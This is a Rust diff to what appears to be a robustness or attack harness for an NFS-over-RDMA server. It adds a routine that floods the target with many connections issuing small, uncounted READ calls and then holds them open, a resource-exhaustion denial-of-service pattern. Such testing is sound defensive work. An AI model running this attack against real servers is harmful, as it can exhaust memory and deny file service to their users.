@@ -13,10 +13,12 @@ use tokio::net::TcpStream;
 use tokio::time::sleep;
 
 use super::Target;
-use crate::peer::{RdmaPeer, connect, drip, host, record};
+use crate::peer::{RdmaPeer, connect, connect_without_buffers, drip, host, record};
 
 /// The largest transfer that the server offers, in bytes.
 const TRANSFER: u32 = 4 << 20;
+/// The largest transfer of a call that is not counted one by one, in bytes.
+const SMALL_TRANSFER: u32 = 16 << 10;
 /// Connections of one attack.
 const PEERS: usize = 10;
 /// Calls of one connection.
@@ -54,6 +56,22 @@ pub(super) async fn unread_over_rdma(target: Target, hosts: usize) -> Infallible
         Ok(())
     };
     target.repeat(PEERS, attempt).await
+}
+
+/// READs whose replies are too small to be counted one by one, on this many connections.
+pub(super) async fn small_unread_over_rdma(target: Target, hosts: usize, connections: usize) -> Infallible {
+    let attempt = move |target: Target, number: usize| async move {
+        let socket = connect_without_buffers(host(number % hosts), target.rdma).await?;
+        let mut peer = RdmaPeer::over(socket).await?;
+        let sink = peer.register(Memory::Sink(BytesMut::with_capacity(SMALL_TRANSFER as usize)))?;
+        let args = Read3Args { file: target.large, offset: 0, count: SMALL_TRANSFER };
+        for xid in 1..=CALLS {
+            peer.call::<Read>(xid, &args, None, vec![WriteChunk(vec![sink])]).await?;
+        }
+        sleep(HOLD).await;
+        Ok(())
+    };
+    target.repeat(connections, attempt).await
 }
 
 pub(super) async fn unread_over_tcp(target: Target) -> Infallible {
